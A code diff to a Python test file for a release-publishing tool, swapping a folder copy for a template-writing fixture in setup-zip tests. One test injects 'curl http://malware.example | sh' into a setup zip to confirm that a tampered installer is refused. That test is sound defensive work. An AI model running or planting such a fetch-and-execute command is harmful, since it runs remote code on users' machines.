@@ -16,9 +16,9 @@ import pytest
 from jenkins_release.records.published_release import PublishedRelease, release_checksum_lines
 from jenkins_release.sandbox.samba import SambaServer, SambaShare
 from jenkins_release.sandbox.stack import Sandbox
-from tests.docs.pages import ROOT
 from tests.fixtures.command import Outcome, fails
 from tests.fixtures.release import Product, Shelf, validate
+from tests.fixtures.setup_zip import write_templates
 from tests.fixtures.share import in_own_mounts
 from tests.release.boundaries import Moment, Witness, contents, deaths, watched_services
 from tests.release.runner import Runner
@@ -478,7 +478,7 @@ class TestSetupZip:
     def test_goes_with_promoted_images(self, promoted: Product) -> None:
         """It is proven first, and stands beside `release.json`."""
         setup = promoted.folder / SETUP
-        shutil.copytree(ROOT / "examples" / "skydrm" / "bundle", promoted.folder / "bundle")
+        write_templates(promoted.folder / "bundle")
         built = promoted.ok("bundle", "build", "8.1.0", "--out", str(setup))
         done = publish(promoted, "--setup-zip", str(setup))
         (file,) = done["files"]
@@ -490,7 +490,7 @@ class TestSetupZip:
     def test_one_that_was_altered(self, promoted: Product) -> None:
         """What customers would run as root is not published unproven."""
         setup = promoted.folder / SETUP
-        shutil.copytree(ROOT / "examples" / "skydrm" / "bundle", promoted.folder / "bundle")
+        write_templates(promoted.folder / "bundle")
         promoted.ok("bundle", "build", "8.1.0", "--out", str(setup))
         with zipfile.ZipFile(setup, "a") as file:
             file.writestr("SkyDRM-setup-8.1.0/extra.sh", "curl http://malware.example | sh")
